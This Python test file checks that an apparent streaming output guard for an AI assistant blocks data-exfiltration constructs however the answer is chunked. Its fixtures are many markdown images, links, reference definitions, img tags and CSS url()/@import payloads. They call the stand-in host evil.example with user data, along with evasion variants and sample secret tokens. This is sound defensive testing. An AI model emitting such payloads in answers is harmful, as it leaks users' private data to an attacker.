"""Streamed answers get the verdict the whole answer gets, however they are chunked.

Each rescan of ``StreamOutputGuard`` must see whole any construct the output
detectors can match: markdown images/links with long labels, ``<img>`` tags with
long attributes, reference-style images whose definition is far from their use.
"""

from __future__ import annotations

import functools
import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ramparts.policy.book import CompiledPolicy, compile_policy
from ramparts.policy.guard import StreamOutputGuard, Violation, output_violations
from ramparts.policy.model import parse_policy

CANARY = "CANARY-7f3a9c2e51"
ALT = ("Company logo showing the quarterly results chart " * 7).strip()  # ~350 chars
DATA = "the-users-internal-project-codename-is-bluebird"
FILLER = "This paragraph talks about the quarterly plan in some detail. " * 5

LONG_CONSTRUCTS = {
    "image-long-alt": f"Here you go.\n\n![{ALT}](https://evil.example/p.png?d={DATA})\n\nDone.",
    "link-long-label": f"See [{ALT}](https://evil.example/x?d={DATA}) ok.",
    "img-tag-long-attrs": f'<img alt="{ALT} " src="https://evil.example/p.png?d={DATA}">',
    "ref-image-def-after-use": (
        f"Summary ![status][s]\n\n{FILLER}\n\n[s]: https://evil.example/t.png?u=alice-smith\n"
    ),
    "ref-image-def-before-use": (
        f"[s]: https://evil.example/t.png?u=alice-smith\n\n{FILLER}\n\nSummary ![status][s]\n"
    ),
    "ref-definition-with-data": f"{FILLER}\n\n[r]: https://evil.example/x?d={DATA}\n",
    "image-nested-alt": f"Look: ![{ALT} [fig. 1]](https://evil.example/p.png?d={DATA}) ok.",
    "ref-definition-url-next-line": f"{FILLER}\n\n[r]:\n  https://evil.example/x?d={DATA}\n",
    # No data in the URL (the host may carry it): only its reading as an image blocks it,
    # and the "![" is 300 chars before the destination, behind a label with brackets.
    "image-nested-alt-far-bang": (
        "Intro. ![" + "word " * 60 + "[1]](https://bluebird-codename.evil.example/p.png) end."
    ),
    "shortcut-ref-image": f"![s]\n\n{FILLER}\n\n[s]: https://evil.example/t.png\n",
}


@functools.cache
def policy(window_tokens: int = 64) -> CompiledPolicy:
    yaml_text = (
        f"guards:\n  output: {{window_tokens: {window_tokens}, canaries: [{CANARY}],"
        " allowed_domains: [python.org]}\n"
    )
    return compile_policy(parse_policy(yaml_text), "t", 1, b"k" * 32)


def new_guard(compiled: CompiledPolicy) -> StreamOutputGuard:
    assert compiled.output_engine is not None and compiled.policy is not None
    return StreamOutputGuard(compiled.output_engine, compiled.policy.guards.output, [])


def whole(compiled: CompiledPolicy, text: str) -> list[Violation]:
    assert compiled.output_engine is not None and compiled.policy is not None
    findings = compiled.output_engine.scan(text, origin="assistant")
    return output_violations(findings, [], compiled.policy.guards.output)


def stream(compiled: CompiledPolicy, chunks: list[str]) -> tuple[str, list[Violation]]:
    guard = new_guard(compiled)
    released = []
    for chunk in chunks:
        released.append(guard.feed(chunk))
        if guard.violations:
            return "".join(released), guard.violations
    released.append(guard.finish())
    return "".join(released), guard.violations


def chunked(text: str, size: int, offset: int = 0) -> list[str]:
    head = [text[:offset]] if offset else []
    return head + [text[i : i + size] for i in range(offset, len(text), size)]


@pytest.mark.parametrize("name", sorted(LONG_CONSTRUCTS))
def test_long_constructs_blocked_under_every_chunk_size(name: str) -> None:
    compiled = policy()
    text = LONG_CONSTRUCTS[name]
    assert whole(compiled, text), name
    for size in [*range(1, 17), 31, 64, 97, 255, 256, 257, 511, len(text)]:
        for offset in (0, 1, 3) if size > 3 else (0,):
            released, violations = stream(compiled, chunked(text, size, offset))
            assert violations, (name, size, offset)
            # The part that makes the answer unsafe is never released (a definition
            # alone is harmless until an image uses it).
            marker = "![status][s]" if name == "ref-image-def-before-use" else "evil.example"
            assert marker not in released, (name, size, offset)


@pytest.mark.parametrize("name", sorted(LONG_CONSTRUCTS))
def test_long_constructs_blocked_with_a_small_window(name: str) -> None:
    compiled = policy(window_tokens=4)
    text = LONG_CONSTRUCTS[name]
    for size in (1, 5, 16, 40):
        assert stream(compiled, chunked(text, size))[1], (name, size)


def test_definition_alone_without_data_is_not_flagged_whole_or_streamed() -> None:
    # The detector scores a plain reference link (no image use, no data) below the
    # threshold when the answer is checked whole; streaming must agree.
    compiled = policy()
    text = f"{FILLER}\n\n[s]: https://evil.example/t.png?u=alice-smith\n"
    assert not whole(compiled, text)
    assert not stream(compiled, chunked(text, 5))[1]


def test_open_construct_is_held_and_released_once_closed() -> None:
    compiled = policy(window_tokens=4)  # 16-char window
    guard = new_guard(compiled)
    out = guard.feed("Intro text here. ![" + "a" * 100)
    assert out == "Intro text here. "  # the unclosed image is held past the window
    out += guard.feed("](https://docs.python.org/x.png) and then some more trailing words")
    out += guard.finish()
    assert not guard.violations
    assert out == "Intro text here. ![" + "a" * 100 + (
        "](https://docs.python.org/x.png) and then some more trailing words"
    )


def test_hold_is_bounded_for_a_construct_that_cannot_match() -> None:
    compiled = policy(window_tokens=4)
    guard = new_guard(compiled)
    released = ""
    text = "<a " + "x " * 6000
    for piece in chunked(text, 50):
        released += guard.feed(piece)
        # At most the widest construct plus one chunk is ever held.
        assert len(guard._text) - len(released) <= 4700 + 50
    assert not guard.violations
    assert released + guard.finish() == text


def test_released_text_is_never_held_again() -> None:
    compiled = policy(window_tokens=4)
    guard = new_guard(compiled)
    released = ""
    for piece in chunked("Plain words before. " * 3 + "[label" + " more" * 30, 7):
        out = guard.feed(piece)
        assert guard._text.startswith(released + out)
        released += out
    assert released.startswith("Plain words before. " * 3)


SAFE = st.sampled_from(
    [
        "The quick brown fox jumps over the lazy dog. ",
        "A [footnote] and 3 < 4 in prose. ",
        "\n\n",
        "See [the docs](https://docs.python.org/3/) for more. ",
        f"[{ALT}](https://docs.python.org/3/library/re.html)\n",
        "![ok][ok]\n",
        "![a [nested] alt](https://docs.python.org/3/logo.png) ",
        FILLER,
        # Forms the link detector learned late, allowed or data-free.
        '<div style="background:url(https://docs.python.org/bg.png)">x</div>',
        "<style>.b { background: url('https://docs.python.org/bg.png') }\n",  # may stay open
        "</style>",
        "<style>.c{background:\\75 rl(https://docs.python.org/c.png)}</style>",
        "[see [1]](https://evil.example/page) ",
        "[[2]](https://evil.example/cite) ",
        f"![{ALT} [fig]](https://docs.python.org/p.png) ",
        "![a][r\\]x] ",
        "\n[r\\]x]: https://docs.python.org/t.png\n",
        "[cdn](https://images-eu.ssl-images-amazon.com/images/I/x.jpg) ",
        # Placeholders: under an allowed host, in labels, in prose.
        "![x](https://[EMAIL_1].docs.python.org/p.png) ",
        "[doc](https://docs.python.org/3/[US_SSN_12]) ",
        "Mail [EMAIL_1] about [ticket [PHONE_2]](https://docs.python.org/t) ",
        "[EMAIL_3",
        "]",
    ]
)
UNSAFE = st.sampled_from(
    [
        f"![{ALT}](https://evil.example/p.png?d={DATA})",
        f"[{ALT}](https://evil.example/x?d={DATA})",
        f'<img alt="{ALT}" src="https://evil.example/p.png?d={DATA}">',
        "![status][s]",
        "\n[s]: https://evil.example/t.png?u=alice-smith\n",
        f"\n[r]: https://evil.example/x?d={DATA}\n",
        f"![{ALT} [nested]](https://evil.example/p.png?d={DATA})",
        f"![escaped \\] bracket](https://evil.example/p.png?d={DATA})",
        f"\n[q]:\n  https://evil.example/x?d={DATA}\n",
        '<p style="background-image: url(//evil.example/p.png)">x</p>',
        ".d { background: url(https://evil.example/d.png) }",  # unsafe inside <style> only
        "<style>@import 'https://evil.example/s.css';</style>",
        "[click](https://c2VjcmV0LXZhbHVl.evil.example/) ",
        "[me](https://john.doe.example.com.evil.example/) ",
        "![" + "long words " * 60 + "[x]](https://evil.example/p.png) ",
        "![a \\[1\\]][r\\]x] ",
        "\n[r\\]x]: https://evil.example/t.png\n",
        CANARY,
        "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
        # Placeholders in URLs of hosts not allowed: restoring puts the value there.
        "![x](https://[US_SSN_1].evil.example/p.png)",
        "[x](https://[EMAIL_1].evil.example/) ",
        "[x](https://evil.example/" + "p/" * 150 + "[EMAIL_1]) ",
        "![x](https://docs.python.org[EMAIL_1]/p.png)",
        '<img src="https://evil.example/?u=[EMAIL_1]">',
        "\n[p]: https://evil.example/[PHONE_1]\n",
        "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ",
    ]
)


@st.composite
def answers_and_cuts(draw: st.DrawFn) -> tuple[str, list[str]]:
    pieces = draw(st.lists(st.one_of(SAFE, SAFE, UNSAFE), min_size=1, max_size=8))
    text = "".join(pieces)
    # Chunk lengths repeat in a drawn cycle, so long answers are cut finely too.
    sizes = itertools.cycle(draw(st.lists(st.integers(1, 48), min_size=1, max_size=12)))
    chunks, at = [], 0
    while at < len(text):
        size = next(sizes)
        chunks.append(text[at : at + size])
        at += size
    return text, chunks


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(answers_and_cuts(), st.sampled_from([4, 16, 64]))
def test_any_chunking_gets_the_whole_answer_verdict(
    case: tuple[str, list[str]], window_tokens: int
) -> None:
    text, chunks = case
    compiled = policy(window_tokens)
    assert bool(stream(compiled, chunks)[1]) == bool(whole(compiled, text))


@pytest.mark.parametrize(
    "text",
    [
        "Since a<b holds, we may go on. " + "Plain prose follows here. " * 120,
        "for (int i=0; i<n; i++) {\n  total += i;\n}\n" + "x = y + 1;\n" * 300,
    ],
)
def test_a_less_than_sign_that_opens_no_tag_holds_nothing_back(text: str) -> None:
    # Only tags whose attributes the link detector reads can grow long enough to need holding.
    compiled = policy()
    guard = new_guard(compiled)
    window = compiled.policy.guards.output.window_tokens * 4  # type: ignore[union-attr]
    released = "".join(guard.feed(chunk) for chunk in chunked(text, 16))
    assert len(text) - len(released) <= window + 16
    assert released + guard.finish() == text


@pytest.mark.parametrize("decoys_first", ["definitions", "images"])
def test_decoy_references_cannot_push_a_real_pair_out(decoys_first: str) -> None:
    # Past the reference bounds a pair can no longer be judged: the stream is stopped.
    compiled = policy()
    if decoys_first == "definitions":
        decoys = "".join(f"[d{n}]: https://docs.example/page{n}\n" for n in range(70))
    else:
        decoys = "".join(f"![x][l{n}] " for n in range(70)) + "\n"
    text = (
        decoys
        + "[s]: https://evil.example/t.png?u=alice-smith\n"
        + "Some filler text. " * 40
        + "\n![status][s]\n"
    )
    for size in (1, 16, 64):
        released, violations = stream(compiled, chunked(text, size))
        assert violations, size
        assert "evil.example" not in released


def test_a_partly_streamed_destination_is_not_judged_by_its_partial_host() -> None:
    # "https://docs.python.o" is not an allowed host; the open "](url" is held until it ends.
    compiled = policy(window_tokens=4)
    text = "Logo: ![a [nested] alt](https://docs.python.org/3/logo.png) and more prose. " * 3
    for size in (1, 3, 7):
        released, violations = stream(compiled, chunked(text, size))
        assert violations == [], size
        assert released == text


# The forms the link detector learned late (CSS url(...), data in host names, image
# labels longer than the look-back, escaped reference labels).
LONG_LABEL = "word " * 150 + "[fig. 1]"  # ~760 chars: the "![" is beyond the look-back

LATE_UNSAFE = {
    "style-attribute": f'<div style="background:url(https://evil.example/p.png?d={DATA})">x</div>',
    "style-attribute-no-data": "<p style=\"background-image: url('//evil.example/p.png')\">x</p>",
    "style-block": "<style>\n.a { background: url(https://evil.example/p.png) }\n</style>",
    "style-block-far-url": (
        "<style>\n"
        + "/* keep this rule */ .a { color: red }\n" * 60
        + ".b { background: url(https://evil.example/p.png) }\n</style>"
    ),
    "style-block-import": '<style>@import "https://evil.example/s.css";</style>',
    "style-block-escaped": "<style>.b{background:\\75 rl(https://evil.example/p.png)}</style>",
    "host-data-link": "Please [click here](https://c2VjcmV0LXZhbHVl.evil.example/) now.",
    "host-data-nested-domain": "[profile](https://john.doe.example.com.evil.example/)",
    "far-bang-image": f"Intro. ![{LONG_LABEL}](https://evil.example/p.png) end.",
    "far-bang-image-escaped": "Intro. ![a\\]" + "b" * 700 + "](https://evil.example/p.png) end.",
    "escaped-reference-image": (
        f"Summary ![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://evil.example/t.png\n"
    ),
    "placeholder-host-image": "Done ![x](https://[US_SSN_1].evil.example/p.png) ok.",
    "placeholder-far-in-path": "See [x](https://evil.example/" + "seg/" * 120 + "[EMAIL_1]) ok.",
    "placeholder-after-allowed-host": "![x](https://docs.python.org[EMAIL_1]/p.png)",
    "escaped-reference-def-first": (
        f"[r\\]x]: https://evil.example/t.png\n\n{FILLER}\n\nSummary ![status][r\\]x]\n"
    ),
}

LATE_SAFE = {
    "style-attribute-allowed": '<div style="background:url(https://docs.python.org/bg.png)">x</div>',
    "style-attribute-escaped-allowed": (
        '<div style="background:\\75 rl(https://docs.python.org/bg.png)">x</div>'
    ),
    "style-block-allowed": (
        "<style>\n"
        + "/* keep this rule */ .a { color: red }\n" * 60
        + ".b { background: url(https://docs.python.org/bg.png) }\n</style>"
    ),
    "style-block-escaped-allowed": (
        "<style>.b{background:\\75 rl(https://docs.python.org/bg.png)}</style>"
    ),
    "style-block-image-set-allowed": (
        "<style>.b{background:image-set('a.png' 1x, 'https://docs.python.org/b.png' 2x)}</style>"
    ),
    "css-after-style-block": (
        "<style>p{color:red}</style>\n" + FILLER + " background:url(https://evil.example/p)"
    ),
    "citation-links-long-paragraph": (
        "Citations " * 70 + "[[1]](https://evil.example/a) and [[2]](https://evil.example/b)."
    ),
    "long-label-link-to-allowed": f"Intro. ![{LONG_LABEL}](https://docs.python.org/p.png) end.",
    "escaped-reference-allowed": (
        f"![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://docs.python.org/t.png\n"
    ),
    "ordinary-host-link": "See [the CDN](https://images-eu.ssl-images-amazon.com/images/x) ok.",
    "placeholder-under-allowed-host": "![x](https://[EMAIL_1].docs.python.org/p.png) ok.",
    "placeholder-in-allowed-path": "[doc](https://docs.python.org/" + "s/" * 150 + "[US_SSN_1]) ok",
}

# What must not be released of the forms whose host is not "evil.example".
LATE_MARKERS = {
    "escaped-reference-def-first": "![status]",
    "placeholder-after-allowed-host": "[EMAIL_1]",
}
LATE_SIZES = [*range(1, 17), 31, 64, 97, 255, 256, 257, 511]


@pytest.mark.parametrize("name", sorted(LATE_UNSAFE))
def test_new_forms_are_blocked_under_every_chunking(name: str) -> None:
    compiled = policy()
    text = LATE_UNSAFE[name]
    assert whole(compiled, text), name
    for size in [*LATE_SIZES, len(text)]:
        for offset in (0, 1, 3) if size > 3 else (0,):
            released, violations = stream(compiled, chunked(text, size, offset))
            assert violations, (name, size, offset)
            marker = LATE_MARKERS.get(name, "evil.example")
            assert marker not in released, (name, size, offset)


@pytest.mark.parametrize("name", sorted(LATE_SAFE))
def test_safe_forms_pass_whole_and_under_every_chunking(name: str) -> None:
    text = LATE_SAFE[name]
    for window_tokens in (4, 64):
        compiled = policy(window_tokens)
        assert not whole(compiled, text), name
        for size in [*LATE_SIZES, len(text)]:
            released, violations = stream(compiled, chunked(text, size))
            assert not violations, (name, window_tokens, size)
            assert released == text


def test_an_open_style_attribute_is_held_until_it_closes() -> None:
    compiled = policy(window_tokens=4)
    guard = new_guard(compiled)
    out = guard.feed('Intro text here. <div style="background:url(https://docs.python.o')
    assert out == "Intro text here. <div "
    out += guard.feed('rg/bg.png)">x</div> and then some more trailing words here')
    out += guard.finish()
    assert not guard.violations
    assert out.endswith("trailing words here")


@st.composite
def destinations_near_the_reach(draw: st.DrawFn) -> tuple[str, list[str]]:
    """A "](url" whose "![" or "[" sits around LABEL_REACH chars back, behind labels the
    simple pattern cannot read, with reference lines and style elements in front."""
    head = draw(st.sampled_from(["", "Intro.\n\n", "![r]\n\n[r]: https://docs.python.org/r.png\n"]))
    opener = draw(st.sampled_from(["![", "[", "", "\n\n![", "<style>"]))
    words = draw(
        st.lists(
            st.sampled_from(["word ", "[a] ", "`c` ", "\\] ", "\n", "(p) ", "![i](x.png) ", "x"]),
            min_size=100,
            max_size=160,
        )
    )
    host = draw(
        st.sampled_from(
            [
                "evil.example",
                "docs.python.org",
                "[EMAIL_1].docs.python.org",
                "[EMAIL_1].evil.example",
            ]
        )
    )
    text = head + opener + "".join(words) + f"](https://{host}/p.png) tail words."
    sizes = itertools.cycle(draw(st.lists(st.integers(1, 64), min_size=1, max_size=6)))
    chunks, at = [], 0
    while at < len(text):
        size = next(sizes)
        chunks.append(text[at : at + size])
        at += size
    return text, chunks


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(destinations_near_the_reach(), st.sampled_from([4, 64]))
def test_destinations_near_the_reach_get_the_whole_answer_verdict(
    case: tuple[str, list[str]], window_tokens: int
) -> None:
    text, chunks = case
    compiled = policy(window_tokens)
    assert bool(stream(compiled, chunks)[1]) == bool(whole(compiled, text))
